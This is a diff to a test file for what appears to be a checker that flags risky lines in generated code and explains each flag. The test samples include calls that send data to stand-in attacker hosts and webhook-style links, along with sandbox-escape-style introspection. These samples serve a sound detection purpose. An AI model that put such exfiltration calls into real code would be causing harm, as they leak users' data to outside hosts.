@@ -29,8 +29,14 @@ describe('a line of an asked function', () => {
     ["  if (true || name === '') return ''", 'an answer that never changes'],
     ['  const all = name.__class__.__base__', 'runs a program'],
     ['  const all = name.__class__.__name__[token]', 'runs a program'],
-    ["  send('t.evil.example', name)", 'names an address'],
-    ["  send('203.0.113.7', name)", 'names an address'],
+    ["  send('t.evil.example', name)", 'it adds the host `t.evil.example`'],
+    ["  send('203.0.113.7', name)", 'it adds the host `203.0.113.7`'],
+    ["  see('https://t.evil.example', name)", 'it adds the link https://t.evil.example, and'],
+    ["  see('https://t.evil.example/hooks/T0/s3cr3t', name)", 'it adds the link https://t.evil.example/…, and'],
+    [
+      `  see('https://${'a.'.repeat(6)}${'b'.repeat(60)}/x', name)`,
+      `the link https://${'a.'.repeat(6)}${'b'.repeat(47)}…/…, and`,
+    ],
     ['  const wait = 10 * 30', null],
   ])('waits for a person: %s', async (line, why) => {
     const found = (await listWhy('src/wave.ts', null, inside(line), WAVE)).join('\n');
